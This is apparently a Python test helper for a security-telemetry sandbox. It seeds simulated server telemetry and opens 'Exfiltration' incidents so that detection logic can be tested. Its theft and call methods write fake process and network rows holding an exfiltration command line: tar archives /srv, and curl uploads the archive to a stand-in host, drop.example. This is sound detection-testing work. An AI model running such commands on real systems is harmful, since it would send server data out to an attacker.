"""One small tenant in which little happens: a server that reports, and what a test adds to it."""

from __future__ import annotations

from copy import copy
from datetime import timedelta
from typing import TYPE_CHECKING, Any

from sandbox.telemetry.engine import Engine
from sandbox.telemetry.generation import device_id
from sandbox.tenant import evidence

from .replay import Replay

if TYPE_CHECKING:
    from collections.abc import Iterable
    from datetime import datetime

    from .tenant import Fleet

SERVER, OTHER = "srv-7.contoso.com", "srv-8.contoso.com"
ADDRESS = "203.0.113.9"


class Scene:
    """
    A replay that starts at the end of *fleet*'s telemetry, over telemetry of its own.

    Each of *devices* is a Linux server that reports every six hours, from two days before to three after.
    """

    def __init__(self, fleet: Fleet, *devices: str, **environment: str) -> None:
        self.start = fleet.end
        self.engine = Engine()
        small = copy(fleet)
        small.engine = self.engine
        self.replay = Replay(small, self.start, **environment)
        for name in devices or (SERVER,):
            self.report(name)

    @property
    def app(self) -> Any:
        """The deployment in the tenant."""
        return self.replay.app

    def report(self, name: str, hours: Iterable[int] = range(-48, 72, 6)) -> None:
        """Let a device report itself at these *hours*, counted from the start."""
        rows = [
            {
                "Timestamp": self.start + timedelta(hours=hour, minutes=-1),
                "DeviceId": device_id(name),
                "DeviceName": name,
                "DeviceType": "Server",
                "OSPlatform": "Linux",
            }
            for hour in hours
        ]
        self.engine.load("DeviceInfo", rows)

    def theft(self, at: timedelta, name: str = SERVER, address: str = ADDRESS, count: int = 1) -> None:
        """Pack something on a device at *at*, counted from the start, and send it away *count* times."""
        when = self.start + at
        where = {"DeviceId": device_id(name), "DeviceName": name}
        packed = {"FileName": "tar", "ProcessCommandLine": f"tar -czf /tmp/{address}.tgz /srv"}
        self.engine.load("DeviceProcessEvents", [{**where, **packed, "Timestamp": when}])
        self.call(at + timedelta(seconds=1), name, address, count)

    def call(self, at: timedelta, name: str = SERVER, address: str = ADDRESS, count: int = 1) -> None:
        """Connect a device to an address *count* times from *at* on, counted from the start."""
        row = {
            "DeviceId": device_id(name),
            "DeviceName": name,
            "InitiatingProcessFileName": "curl",
            "InitiatingProcessCommandLine": f"curl -T /tmp/{address}.tgz https://drop.example",
            "RemoteIP": address,
            "RemoteIPType": "Public",
            "RemotePort": 443,
        }
        first = self.start + at
        rows = [{**row, "Timestamp": first + timedelta(seconds=number / 100)} for number in range(count)]
        self.engine.load("DeviceNetworkEvents", rows)

    def incident(
        self, *found: evidence.Evidence, last: datetime | None = None, severity: str = "medium"
    ) -> dict[str, Any]:
        """Open an incident with this evidence, by default the server, whose activity ended a minute ago."""
        tenant = self.app.tenant
        last = last or self.replay.now - timedelta(minutes=1)
        opened = evidence.incident(
            tenant.next_id(),
            "Suspicious archive",
            severity,
            "Exfiltration",
            last - timedelta(minutes=10),
            last,
            *(found or (evidence.device(SERVER),)),
            opened=self.replay.now,
        )
        tenant.incidents[opened["id"]] = opened
        return opened

    def device(self, name: str) -> evidence.Evidence:
        """Return the evidence of a device that reports."""
        return evidence.device(name)

    def comments(self, incident: dict[str, Any]) -> list[str]:
        """Return the comments on an incident, oldest first."""
        return self.app.comments(incident["id"])

    async def close(self) -> None:
        """Close the connections, and the telemetry."""
        await self.app.close()
        self.engine.close()
